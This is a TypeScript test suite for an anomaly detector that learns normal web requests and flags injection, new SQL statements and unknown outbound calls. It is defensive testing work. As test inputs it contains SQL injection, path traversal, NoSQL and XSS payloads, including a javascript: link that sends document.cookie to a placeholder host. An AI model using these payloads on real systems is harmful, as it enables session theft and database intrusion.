// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks look like that
import { describe, expect, test } from 'vitest';
import type { Model } from '../../../baseline/model.ts';
import { JudgementStage } from '../../../baseline/model.ts';
import { segmentOf } from '../traces/segments.ts';
import { entriesOf, learned, learner, learnInto, optionsOf, PROFILE, request, score, symbols, WORDS } from './shop.ts';

const model = learner.compile(learned(), optionsOf());
const hard = (m: Model, ...args: Parameters<typeof request>) =>
  score(m, request(...args)).findings.filter((finding) => finding.hard);

describe('ordinary requests', () => {
  test('fit: hardly any surprise, no severity, no finding, similarity 1', () => {
    for (let i = 2_000; i < 2_500; i++) {
      const evidence = score(model, request(i));
      expect(evidence.surprise).toBeLessThan(0.3);
      expect(evidence.findings).toEqual([]);
      expect(evidence.similarity).toBe(1);
      expect(evidence.observed).toBe(0);
    }
  });

  test('a verdict does not depend on what was scored before', () => {
    const segments = Array.from({ length: 300 }, (_, i) =>
      request(i, i % 7 === 0 ? { q: `${i}' or ${i}=${i}--` } : {}),
    );
    const forward = segments.map((segment) => score(model, segment));
    const fresh = learner.load(entriesOf(model), symbols);
    const backward = segments.map((_, i) => score(fresh, segments[segments.length - 1 - i]!)).reverse();
    expect(backward).toEqual(forward);
  });

  test('entries and back: the same version', () => {
    const again = learner.load(entriesOf(model), symbols);
    expect(entriesOf(again)).toEqual(entriesOf(model));
    for (let i = 0; i < 200; i++) {
      const segment = request(i, i % 3 === 0 ? { q: `${WORDS[i % 10]}'${i}`, id: 'x' } : {});
      expect(score(again, segment)).toEqual(score(model, segment));
    }
  });

  test('entries of other groups are passed over, broken ones refused with a code', () => {
    const entries = entriesOf(model);
    const other = { group: 'timing' as const, kind: 'operation', key: 'x', value: 'not json' };
    expect(entriesOf(learner.load([other, ...entries], symbols))).toEqual(entries);
    for (const value of ['', '{}', '{"kinds":{"nonsense":{}}}']) {
      const broken = entries.map((entry, i) => (i === 3 ? { ...entry, value } : entry));
      expect(() => learner.load(broken, symbols)).toThrow(expect.objectContaining({ code: 'BASELINE_DAMAGED' }));
    }
  });

  test('compiling leaves the partial as it was', () => {
    const partial = learned(100);
    const before = learner.encode(partial);
    learner.compile(partial, optionsOf());
    expect(learner.encode(partial)).toEqual(before);
  });

  test('coverage tells operations in learning from active ones', () => {
    const rows = [...learner.compile(learned(150), optionsOf()).coverage()];
    expect(rows.map(({ state }) => state)).toEqual(['learning', 'learning', 'learning']);
    expect([...model.coverage()].map(({ state }) => state)).toEqual(['active', 'active', 'active']);
    expect([...learner.compile(learned(20), optionsOf()).coverage()][0]!.state).toBe('observe');
  });

  test('coverage shares an operation out over the states of its parameters', () => {
    const partial = learned(1_000);
    // 20 of 3,420 values of the operation are of a parameter that is hardly known; 400 of one that is new.
    for (let i = 0; i < 400; i++) {
      const extra = [{ source: 'query' as const, name: 'late', value: '1' }];
      if (i < 20) extra.push({ source: 'query', name: 'rare', value: String(i) });
      learnInto(partial, 1_000 + i, request(i, { extra }));
    }
    const rows = [...learner.compile(partial, optionsOf()).coverage()].filter(
      ({ operation }) => operation === 'GET /products',
    );
    expect(rows.reduce((sum, { count }) => sum + count, 0)).toBe(1_400);
    // Schema and q, id, agent, statement, egress 1,400 each, late 400: of 8,820.
    expect(rows.map(({ state, count }) => [state, count])).toEqual([
      ['observe', Math.round((1_400 * 20) / 8_820)],
      ['active', 1_400 - Math.round((1_400 * 20) / 8_820)],
    ]);
  });
});

describe('attack patterns', () => {
  test('on a parameter without benign hits: a hard finding in words, without the value', () => {
    const [finding] = hard(model, 7, { id: '1%27%20OR%201%3D1--' });
    expect(finding).toMatchObject({
      kind: 'attack-pattern',
      explanationKey: 'GET /products · id · SQL injection',
      parameter: 'id',
      service: 'catalog',
      operation: 'GET /products',
      evidence: 'presence',
    });
    expect(finding!.expected).toMatch(/^`id` was an integer in 2,000 of 2,000 requests by about \d/);
    expect(finding!.seen).toContain('SQL injection (CWE-89): a 19-character text');
    expect(finding!.seen).toContain("shape 9' aa 9=9--");
    expect(JSON.stringify(finding)).not.toContain('1=1');
  });

  test('benign by diverse evidence: no hard finding, and still an unusual value where it is rare', () => {
    // A search box of a shop for developers: one request in ten asks for SQL.
    const partial = learned(2_000, (i) => (i % 10 === 0 ? { q: `select ${WORDS[i % 9]}, id from t${i % 40}` } : {}));
    const m = learner.compile(partial, optionsOf());
    expect(hard(m, 3, { q: 'select name, id from t7' })).toEqual([]);
    expect(hard(m, 3, { q: '<script>alert(1)</script>' })).toHaveLength(1);
    // The other parameter has had none.
    expect(hard(m, 3, { id: '1 union select 2' })).toHaveLength(1);
  });

  test('hits of one client in learning make nothing ordinary', () => {
    const partial = learned();
    for (let i = 0; i < 400; i++) learnInto(partial, i * 5, request(i, { id: `${i} union select 2` }), 9);
    expect(hard(learner.compile(partial, optionsOf()), 3, { id: '5 union select 2' })).toHaveLength(1);
  });

  test('in a parameter that the operation never had, and in its name', () => {
    const value = hard(model, 3, { extra: [{ source: 'query', name: 'debug', value: '../../etc/passwd' }] });
    expect(value.map(({ explanationKey }) => explanationKey)).toEqual(['GET /products · debug · path traversal']);
    const name = hard(model, 3, { extra: [{ source: 'query', name: 'id[$ne]', value: '1' }] });
    expect(name[0]).toMatchObject({
      kind: 'attack-pattern',
      explanationKey: 'GET /products · id[$ne] · NoSQL operator',
    });
  });

  test('behind an encoding', () => {
    const hidden = Buffer.from('<script>alert(1)</script>').toString('base64');
    expect(hard(model, 3, { q: hidden })).toHaveLength(1);
    expect(hard(model, 3, { q: '%2527%2520union%2520select%25201' })).toHaveLength(1);
  });
});

describe('a parameter that takes code', () => {
  /** Every third value holds what an attack pattern matches: an editor of pages, from `clients` of them. */
  const withCode = (clients: number) =>
    learner.compile(
      learned(3_000, (i) => {
        const text = `${WORDS[i % 10]} ${WORDS[(i * 7) % 10]}`;
        const html = `<p><a href="/${WORDS[(i * 3) % 10]}">${text}</a></p>`;
        const note = i % 3 === 0 && i % 100 < clients ? html : text;
        return { extra: [{ source: 'body', name: 'note', value: note }] };
      }),
      optionsOf(),
    );
  const noted = (m: Model, value: string) => score(m, request(1, { extra: [{ source: 'body', name: 'note', value }] }));

  test('knows the shapes of that, and what is none of them', () => {
    const m = withCode(100);
    expect(noted(m, '<p><a href="/hat">shoe bag</a></p>')).toMatchObject({ findings: [], similarity: 1 });
    expect(noted(m, '<p><a href="/hat">shoe bag</a></p>').surprise).toBeLessThan(0.5);
    const attack = noted(m, '<p><a href="javascript:fetch(`//x.example/${document.cookie}`)">shoe</a></p>');
    expect(attack.findings).toHaveLength(1);
    expect(attack.surprise).toBeGreaterThan(1);
    // Another family is nothing ordinary here.
    expect(noted(m, "1' UNION SELECT password FROM users--").findings[0]!.hard).toBe(true);
  });

  test('says the same once loaded', () => {
    const m = withCode(100);
    const again = learner.load(entriesOf(m), symbols);
    expect(entriesOf(again)).toEqual(entriesOf(m));
    for (const value of ['<p><a href="/hat">shoe bag</a></p>', '<a href="javascript:alert(1)">']) {
      expect(noted(again, value)).toEqual(noted(m, value));
    }
  });

  test('is not made by a few clients: theirs are no hard finding, and stay odd', () => {
    const evidence = noted(withCode(7), '<p><a href="/hat">shoe bag</a></p>');
    expect(evidence.findings.map(({ hard }) => hard)).toEqual([false]);
  });
});

describe('shapes', () => {
  test('a value unlike its profile is a soft finding with expected and seen', () => {
    const evidence = score(model, request(3, { id: 'admin' }));
    expect(evidence.findings).toMatchObject([
      { kind: 'parameter', hard: false, explanationKey: 'GET /products · id', parameter: 'id' },
    ]);
    expect(evidence.findings[0]!.seen).toContain('a 5-character word');
    expect(evidence.surprise).toBeGreaterThan(1);
    expect(evidence.similarity).toBeLessThan(1);
  });

  test('more deviation never means less: severity and surprise grow with length', () => {
    const rows = [30, 60, 200, 2_000, 20_000].map((n) => score(model, request(3, { q: 'a'.repeat(n) })));
    for (let i = 1; i < rows.length; i++) {
      expect(rows[i]!.severity).toBeGreaterThan(rows[i - 1]!.severity);
      expect(rows[i]!.surprise).toBeGreaterThanOrEqual(rows[i - 1]!.surprise);
    }
  });

  test('no feature claims more than 0.3 decade beyond its sample', () => {
    for (const q of ["';--<>{}", '\u0000', '9'.repeat(500), '%2525252527']) {
      for (const { p } of score(model, request(3, { q })).findings) expect(p).toBeGreaterThanOrEqual(0.5 / 2_001);
    }
  });

  test('thirty ordinary headers do not dilute one bad parameter', () => {
    const headers = Array.from({ length: 30 }, (_, k) => ({ source: 'header' as const, name: `x-${k}`, value: 'yes' }));
    const m = learner.compile(
      learned(1_000, () => ({ extra: headers })),
      optionsOf(),
    );
    const few = learner.compile(learned(1_000), optionsOf());
    const with30 = score(m, request(3, { id: 'admin', extra: headers })).surprise;
    const without = score(few, request(3, { id: 'admin' })).surprise;
    expect(Math.abs(with30 - without)).toBeLessThan(0.2);
  });

  test('an enumeration knows its values; a free text has none', () => {
    const partial = learned(2_000, (i) => ({
      extra: [{ source: 'query', name: 'sort', value: ['price', 'name', 'date'][i % 3]! }],
    }));
    const m = learner.compile(partial, optionsOf());
    const [finding] = score(m, request(3, { extra: [{ source: 'query', name: 'sort', value: 'cost' }] })).findings;
    expect(finding?.expected).toContain('one of 3 known values');
    expect(score(m, request(3, { id: '1234' })).findings).toEqual([]);
  });

  test('an unseen parameter name is part of the schema', () => {
    const evidence = score(model, request(3, { extra: [{ source: 'query', name: 'admin', value: '1' }] }));
    expect(evidence.findings).toMatchObject([{ kind: 'parameter', parameter: 'admin', hard: false }]);
    expect(evidence.findings[0]!.expected).toContain('2 known parameters in 2,000 requests');
  });

  test('operations that make new names every day are not surprised by one more', () => {
    const partial = learned(2_000, (i) => ({
      extra: [{ source: 'query', name: `f${i % 150}_${i >> 3}`, value: '1' }],
    }));
    const m = learner.compile(partial, optionsOf());
    const evidence = score(m, request(3, { extra: [{ source: 'query', name: 'f_new', value: '1' }] }));
    expect(evidence.findings).toEqual([]);
  });
});

describe('statements', () => {
  const UNION = "SELECT id, name FROM products WHERE name LIKE '%x' UNION SELECT id, password FROM users --%'";

  test('an unseen one under an active operation is a hard finding', () => {
    const [finding] = hard(model, 3, { sql: 'DELETE FROM products WHERE id = 4' });
    expect(finding).toMatchObject({
      kind: 'statement',
      explanationKey: `GET /products · ${symbols.labelText(request(0).label[1]!)}`,
      operation: 'GET /products',
      seen: 'a statement form never seen',
    });
    expect(finding!.expected).toMatch(/one of 1 known statement form of .*SELECT products, as in 2,000 calls/);
  });

  test('strongest when a parameter stands outside a literal', () => {
    const q = encodeURIComponent("x' UNION SELECT id, password FROM users --");
    const findings = hard(model, 3, { q, sql: UNION });
    const statement = findings.find(({ kind }) => kind === 'statement')!;
    expect(statement.seen).toMatch(/\d tokens of parameter `q` outside its literals/);
    expect(statement.severity).toBeGreaterThan(hard(model, 3, { sql: UNION })[0]!.severity);
    expect(findings.map(({ kind }) => kind).sort()).toEqual(['attack-pattern', 'statement']);
  });

  test('literals, lists and case change nothing', () => {
    const sql =
      "select id, name from products where name like '%O''Neil; DROP TABLE x%' and id > 77 order by name limit 5";
    expect(score(model, request(3, { sql })).findings).toEqual([]);
  });

  test('known from another route of the service: unusual, not hard', () => {
    const partial = learned();
    const other = (i: number) =>
      segmentOf(symbols, {
        service: 'catalog',
        operation: 'GET /stock',
        children: [
          {
            service: 'catalog',
            operation: 'SELECT products',
            kind: 'client',
            peer: 'postgresql',
            parameters: [
              { source: 'statement', name: 'db.query.text', value: `SELECT count(*) FROM products WHERE id = ${i}` },
            ],
          },
        ],
      });
    for (let i = 0; i < 400; i++) learnInto(partial, i, other(i));
    const m = learner.compile(partial, optionsOf());
    expect(hard(m, 3, { sql: 'SELECT count(*) FROM products WHERE id = 1' })).toEqual([]);
    expect(score(m, request(3, { sql: 'SELECT count(*) FROM products WHERE id = 1' })).surprise).toBeGreaterThan(1);
    expect(hard(m, 3, { sql: 'SELECT max(id) FROM products' })).toHaveLength(1);
  });

  test('an operation that builds new statements every day: hard only with a parameter outside a literal', () => {
    const column = (i: number) => `c${Math.imul(i, 0x9e3779b1) >>> 0}`;
    const m = learner.compile(
      learned(2_000, (i) => (i % 4 === 0 ? { sql: `SELECT ${column(i)} FROM products` } : {})),
      optionsOf(),
    );
    expect(hard(m, 3, { sql: 'SELECT c_new FROM products' })).toEqual([]);
    const q = encodeURIComponent("x' UNION SELECT id, password FROM users --");
    expect(hard(m, 3, { q, sql: UNION }).map(({ kind }) => kind)).toContain('statement');
  });

  test('one client repeating an injection in learning does not make it known', () => {
    const partial = learned();
    for (let i = 0; i < 300; i++) learnInto(partial, i * 6, request(i, { sql: UNION }), 9);
    expect(hard(learner.compile(partial, optionsOf()), 3, { sql: UNION })).toHaveLength(1);
  });

  test('a rare branch that several clients took in learning is unusual, not hard', () => {
    const rare = 'INSERT INTO aborts (id, reason) VALUES ($1, $2)';
    const partial = learned();
    for (let k = 0; k < 3; k++) learnInto(partial, k * 600, request(k, { sql: rare }), 5 + k);
    const m = learner.compile(partial, optionsOf());
    expect(score(m, request(3, { sql: rare })).findings).toMatchObject([
      { kind: 'statement', hard: false, seen: 'a statement form seen too rarely to be known' },
    ]);
    expect(score(learner.load(entriesOf(m), symbols), request(3, { sql: rare }))).toEqual(
      score(m, request(3, { sql: rare })),
    );
    expect(hard(m, 3, { sql: 'DELETE FROM aborts' })).toHaveLength(1);
  });

  test('parameter names that outsiders make up do not push statements and egress out', () => {
    const flood = (i: number) => ({ extra: [{ source: 'query' as const, name: `x${i}`, value: '1' }] });
    const m = learner.compile(learned(2_000, flood), optionsOf());
    expect(hard(m, 3)).toEqual([]);
    expect(hard(m, 3, { sql: 'DELETE FROM products' })).toHaveLength(1);
    expect(hard(m, 3, { egress: 'loopback:9999' })).toHaveLength(1);
  });

  test('where a cap cut calls off, a missing one is no evidence', () => {
    const partial = learned();
    for (let i = 0; i < 1_000; i++) {
      const segment = segmentOf(symbols, {
        service: 'catalog',
        operation: 'GET /products',
        children: [
          {
            service: 'catalog',
            operation: `CALL p${i}`,
            kind: 'client',
            parameters: [{ source: 'statement', name: 'db.query.text', value: `CALL p${i}()` }],
          },
        ],
      });
      learnInto(partial, i, segment);
    }
    const m = learner.compile(partial, optionsOf());
    for (let i = 0; i < 50; i++) expect(hard(m, i)).toEqual([]);
  });

  test('on a sensitive table never admitted after the first version', () => {
    const options = { sensitiveTables: ['pay*', 'users'] };
    const first = learner.compile(learned(), optionsOf(options));
    const later = learned(2_000, (i) => (i % 3 === 0 ? { sql: 'SELECT card FROM payments WHERE id = 1' } : {}));
    const unguarded = learner.compile(later, optionsOf({ previous: entriesOf(first) }));
    expect(hard(unguarded, 3, { sql: 'SELECT card FROM payments WHERE id = 9' })).toEqual([]);
    const guarded = learner.compile(later, optionsOf({ ...options, previous: entriesOf(first) }));
    expect(hard(guarded, 3, { sql: 'SELECT card FROM payments WHERE id = 9' })).toHaveLength(1);
    // What the first version learned of such tables stays known, also when a window has none of it.
    const known = learner.compile(later, optionsOf(options));
    const after = learner.compile(learned(), optionsOf({ ...options, previous: entriesOf(known) }));
    expect(hard(after, 3, { sql: 'SELECT card FROM payments WHERE id = 9' })).toEqual([]);
  });
});

describe('egress', () => {
  test('a class known neither to the operation nor to its active service is a hard finding', () => {
    const [finding] = hard(model, 3, { egress: 'loopback:[::1]:9999' });
    expect(finding).toMatchObject({
      kind: 'egress',
      explanationKey: 'GET /products · loopback:9999',
      seen: 'a call to loopback:9999',
      evidence: 'presence',
    });
    expect(finding!.expected).toContain('catalog calls service:pricing');
  });

  test('an address where others call waits for the absence grace, one where nobody does is told at once', () => {
    const partial = learned();
    for (let i = 0; i < 400; i++) learnInto(partial, i * 5, call('gateway', 'loopback:127.0.0.1:9999'));
    const m = learner.compile(partial, optionsOf());
    const segment = request(3, { egress: 'loopback:127.0.0.1:9999' });
    for (const stage of [JudgementStage.provisional, JudgementStage.closed]) {
      expect(score(m, segment, stage)).toMatchObject({ findings: [], similarity: 1 });
      const nobodys = score(m, request(3, { egress: 'loopback:127.0.0.1:9998' }), stage);
      expect(nobodys.findings).toMatchObject([{ kind: 'egress', hard: true, evidence: 'presence' }]);
    }
    expect(hard(m, 3, { egress: 'loopback:127.0.0.1:9999' })).toMatchObject([{ evidence: 'absence' }]);
    const service = request(3, { egress: 'service:payments' });
    expect(score(model, service, JudgementStage.provisional).findings).toMatchObject([{ kind: 'egress', hard: true }]);
  });

  /** A request whose one call says each of these names of its callee. */
  const call = (service: string, ...names: readonly string[]) =>
    segmentOf(symbols, {
      service,
      operation: 'GET /products',
      children: [
        {
          service,
          operation: 'GET',
          kind: 'client',
          parameters: names.map((value) => ({ source: 'egress', name: 'egress', value })),
        },
      ],
    });

  test('a call known by one of its two names is known', () => {
    const segment = call('catalog', 'private:10.1.2.3:8080', 'service:pricing');
    expect(score(model, segment).findings.filter((finding) => finding.hard)).toEqual([]);
  });

  test('a callee whose span got lost is known by the address it was always called at', () => {
    const partial = learner.createPartial();
    for (let i = 0; i < 1_000; i++)
      learnInto(partial, i * 2, call('cart', 'service:pricing', 'loopback:127.0.0.1:7001'));
    const m = learner.compile(partial, optionsOf());
    const findings = (...names: string[]) => score(m, call('cart', ...names)).findings;
    expect(findings('loopback:127.0.0.1:7001')).toEqual([]);
    // The callee moved: its own name says that all is well, and the address is not judged beside it.
    expect(findings('service:pricing', 'loopback:127.0.0.1:7002')).toEqual([]);
    expect(score(m, call('cart', 'service:pricing', 'loopback:127.0.0.1:7002')).surprise).toBe(0);
    // Not even after it was: what is remembered of a value is remembered of it alone.
    expect(findings('loopback:127.0.0.1:7002')).toMatchObject([{ kind: 'egress', hard: true }]);
    expect(findings('service:admin', 'loopback:127.0.0.1:7003')).toMatchObject([
      { explanationKey: 'GET /products · service:admin', hard: true },
    ]);
  });

  test('new pods behind an address are the same class', () => {
    const m = learner.compile(
      learned(1_000, (i) => ({ egress: `private:10.0.${i % 8}.${i % 200}:8080` })),
      optionsOf(),
    );
    expect(hard(m, 3, { egress: 'private:10.9.9.9:8080' })).toEqual([]);
    expect(hard(m, 3, { egress: 'private:10.9.9.9:22' })).toHaveLength(1);
    expect(hard(m, 3, { egress: 'link-local:169.254.169.254:80' })).toHaveLength(1);
  });

  test('over twenty public names make the one class public of that operation', () => {
    const m = learner.compile(
      learned(2_000, (i) => ({ egress: `public:hook${i % 60}.example:443` })),
      optionsOf(),
    );
    expect(hard(m, 3, { egress: 'public:never-seen.example:443' })).toEqual([]);
    expect(hard(m, 3, { egress: 'private:admin:443' })).toHaveLength(1);
    const few = learner.compile(
      learned(2_000, (i) => ({ egress: `public:hook${i % 6}.example:443` })),
      optionsOf(),
    );
    expect(hard(few, 3, { egress: 'public:never-seen.example:443' })).toHaveLength(1);
  });

  test('public names count together, however rare each is', () => {
    const m = learner.compile(
      learned(2_000, (i) => (i % 9 === 0 ? { egress: `public:img${i}.photos.example:443` } : {})),
      optionsOf(),
    );
    expect(hard(m, 3, { egress: 'public:never-seen.example:443' })).toEqual([]);
    const [finding] = hard(m, 3, { egress: 'public:203.0.113.9:443' });
    expect(finding!.expected).toContain('catalog calls service:pricing, any public name');
  });

  test.each([
    ['of one client', () => 7, (i: number) => i * 6],
    ['of one burst', (i: number) => 1 + (i % 100), () => 80],
  ])('public names %s do not make any name normal', (_what, client, at) => {
    const partial = learned();
    for (let i = 0; i < 300; i++) {
      learnInto(partial, at(i), request(i, { egress: `public:x${i}.attacker.example:443` }), client(i));
    }
    const m = learner.compile(partial, optionsOf());
    expect(hard(m, 3, { egress: 'public:never-seen.example:443' })).toHaveLength(1);
  });

  test('a new name of a domain that is called anyway is soft', () => {
    const m = learner.compile(
      learned(2_000, (i) => ({
        egress: `public:api${i % 4}.${i % 2 === 0 ? 'photos.co.uk' : 's3.amazonaws.com'}:443`,
      })),
      optionsOf(),
    );
    const loaded = learner.load(entriesOf(m), symbols);
    for (const version of [m, loaded]) {
      expect(hard(version, 3, { egress: 'public:api9.photos.co.uk:443' })).toEqual([]);
      const soft = score(version, request(3, { egress: 'public:api9.photos.co.uk:443' }));
      expect(soft.findings).toMatchObject([{ kind: 'egress', hard: false }]);
      expect(hard(version, 3, { egress: 'public:attacker.co.uk:443' })).toHaveLength(1);
      // Anybody gets a bucket there.
      expect(hard(version, 3, { egress: 'public:evil.s3.amazonaws.com:443' })).toHaveLength(1);
    }
    // Taken over, not learned, once the service is active.
    const later = learned(2_000, (i) => ({ egress: `public:api${i % 4}.drop.example:443` }));
    const second = learner.compile(later, optionsOf({ previous: entriesOf(m) }));
    expect(hard(second, 3, { egress: 'public:api9.photos.co.uk:443' })).toEqual([]);
    expect(hard(second, 3, { egress: 'public:api1.drop.example:443' })).toHaveLength(1);
  });

  test('the first window admits on diverse evidence only', () => {
    const partial = learned();
    for (let i = 0; i < 300; i++) learnInto(partial, i * 6, request(i, { egress: 'loopback:6379' }), 9);
    expect(hard(learner.compile(partial, optionsOf()), 3, { egress: 'loopback:6379' })).toHaveLength(1);
  });

  test('after the first version taken over, never learned, and not forgotten', () => {
    const first = learner.compile(learned(), optionsOf());
    const later = learned(2_000, (i) => (i % 2 === 0 ? { egress: 'public:new.example:443' } : {}));
    const second = learner.compile(later, optionsOf({ previous: entriesOf(first) }));
    expect(hard(second, 3, { egress: 'public:new.example:443' })).toHaveLength(1);
    const without = learned(2_000, () => ({ egress: 'public:new.example:443' }));
    const third = learner.compile(without, optionsOf({ previous: entriesOf(second) }));
    expect(hard(third, 3)).toEqual([]);
    expect(hard(third, 3, { egress: 'public:new.example:443' })).toHaveLength(1);
  });

  test('a service that was not active yet still learns', () => {
    const first = learner.compile(learned(100), optionsOf({ profile: { ...PROFILE, activeFrom: 5_000 } }));
    const later = learned(2_000, () => ({ egress: 'public:new.example:443' }));
    const second = learner.compile(later, optionsOf({ previous: entriesOf(first) }));
    expect(hard(second, 3, { egress: 'public:new.example:443' })).toEqual([]);
  });
});

describe('learning that can be trusted', () => {
  test('quarantined segments are counted apart', () => {
    const partial = learned();
    for (let i = 0; i < 600; i++) {
      const segment = request(i, { id: 'admin' });
      learner.learn(partial, segment, { bucket: i, client: 1 + (i % 90), quarantined: true });
    }
    const m = learner.compile(partial, optionsOf());
    expect(score(m, request(3, { id: 'admin' })).findings).toHaveLength(1);
    const operation = entriesOf(m).find(({ kind, key }) => kind === 'operation' && key.includes('GET /products'))!;
    expect(JSON.parse(operation.value)).toMatchObject({ n: 2_000, quarantined: 600 });
  });

  test('a client that sends most of the traffic decides nothing alone', () => {
    const partial = learned(1_000);
    for (let i = 0; i < 9_000; i++) learnInto(partial, i % 1_000, request(i, { id: `admin${i % 5}` }), 77);
    const quiet = learner.compile(partial, optionsOf());
    // 90 % of the requests, and still rare: one client's share is capped.
    const json = entriesOf(quiet).find(({ kind, key }) => kind === 'parameter' && key.endsWith('· id'))!.value;
    const types = JSON.parse(json).kinds.type.counts as Record<string, number>;
    expect(types.identifier!).toBeLessThanOrEqual(0.1 * 10_000);
    expect(types.integer!).toBe(1_000);
  });

  test('one client in one bucket counts three times at most', () => {
    const partial = learned(1_000);
    for (let i = 0; i < 500; i++) learnInto(partial, 3, request(i, { id: 'abcdef' }), 9);
    const m = learner.compile(partial, optionsOf());
    const json = entriesOf(m).find(({ kind, key }) => kind === 'parameter' && key.endsWith('· id'))!.value;
    expect(JSON.parse(json).kinds.type.counts.word).toBeLessThanOrEqual(3);
  });

  test('an observed parameter is judged by the same parameter elsewhere in its service, or not at all', () => {
    const partial = learned();
    const rare = (id: string) =>
      segmentOf(symbols, {
        service: 'catalog',
        operation: 'GET /rare',
        parameters: [
          { source: 'query', name: 'id', value: id },
          { source: 'query', name: 'only-here', value: id },
        ],
      });
    for (let i = 0; i < 10; i++) learnInto(partial, i, rare(String(1_000 + i)));
    const m = learner.compile(partial, optionsOf());
    const evidence = score(m, rare('admin'));
    expect(evidence.findings.map(({ parameter }) => parameter)).toEqual(['id']);
    expect(evidence.observed).toBe(1);
    expect(score(m, rare('1005')).findings).toEqual([]);
  });

  test('without any known client, twice the evidence admits', () => {
    const partial = learner.createPartial();
    for (let i = 0; i < 1_000; i++) {
      const sql = i % 50 === 0 ? 'SELECT max(id) FROM products' : undefined;
      learnInto(partial, i, request(i, sql === undefined ? {} : { sql }), 0);
    }
    const m = learner.compile(partial, optionsOf({ clients: 0 }));
    expect(hard(m, 3, { sql: 'SELECT max(id) FROM products' })).toEqual([]);
    expect(hard(m, 3, { sql: 'SELECT min(id) FROM products' })).toHaveLength(1);
  });
});
